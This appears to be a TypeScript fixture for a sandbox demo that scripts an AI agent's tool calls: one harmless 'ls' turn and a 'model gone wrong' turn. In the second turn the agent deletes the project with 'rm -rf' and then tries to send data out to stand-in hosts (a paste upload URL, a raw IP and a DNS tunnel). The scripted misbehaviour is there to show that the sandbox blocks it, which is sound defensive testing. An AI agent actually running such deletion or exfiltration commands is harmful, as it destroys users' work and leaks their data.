import type { ScriptedTurn } from '../../emulator';

/** A host the quickstart policy allows; the demo serves it on loopback. */
export const ALLOWED_HOST = 'registry.corp.example';

/** Where the allowed host listens; the quickstart policy names the port. */
export const ALLOWED_PORT = 8443;

/** What the agent tries to reach in step 6: a host name goes nowhere, so it brings addresses of its own. */
export const ATTEMPTS = [
  { kind: 'http', target: 'http://paste.example/upload', address: '203.0.113.7' },
  { kind: 'https', target: 'https://api.openai.com/v1/models', address: '203.0.113.8' },
  { kind: 'raw IP', target: 'http://203.0.113.9/', address: '' },
  { kind: 'dns', target: 'dns:secret-data.tunnel.example', address: '' },
] as const;

function bash(command: string, text = ''): ScriptedTurn {
  const says = text === '' ? [] : [{ type: 'text' as const, text }];
  return { content: [...says, { type: 'tool_use', name: 'Bash', input: { command } }] };
}

/** Step 5: a harmless turn with reasoning and one tool call. */
export function workTurns(): ScriptedTurn[] {
  return [
    {
      content: [
        { type: 'thinking', thinking: 'The project folder tells what there is to do.' },
        { type: 'text', text: 'I will look at the project first.' },
        { type: 'tool_use', name: 'Bash', input: { command: 'ls' } },
      ],
    },
    { content: [{ type: 'text', text: 'The project has a README and one source file.' }] },
  ];
}

/** Where things are in the scratch workspace, and what its jail can do. */
export interface Scene {
  readonly projectDir: string;
  /** Command line of the program that tries to reach something. */
  readonly reach: string;
  /** False at level D, where nothing keeps a program in: there nobody tries what would leave this machine. */
  readonly isEnforced: boolean;
}

/** Step 6: a model gone wrong. It deletes the project, tries to get data out, then does something allowed. */
export function attackTurns({ projectDir, reach, isEnforced }: Scene): ScriptedTurn[] {
  const deletion = bash(`rm -rf ${projectDir}`, 'I will clean up by deleting the project.');
  const attempts = attemptsAt(isEnforced).map(({ target, address }) =>
    bash(`${reach} ${target} ${address}`.trim()),
  );
  const allowed = bash(`${reach} https://${ALLOWED_HOST}:${ALLOWED_PORT}/`);
  const last: ScriptedTurn = { content: [{ type: 'text', text: 'I am done.' }] };
  // Where the deletion is not stopped, what comes after it would have no folder to run in.
  return isEnforced
    ? [deletion, ...attempts, allowed, last]
    : [...attempts, allowed, deletion, last];
}

/** A name asked for goes to a resolver outside where nothing stops it. */
export function attemptsAt(isEnforced: boolean): readonly (typeof ATTEMPTS)[number][] {
  return ATTEMPTS.filter(({ kind }) => isEnforced || kind !== 'dns');
}
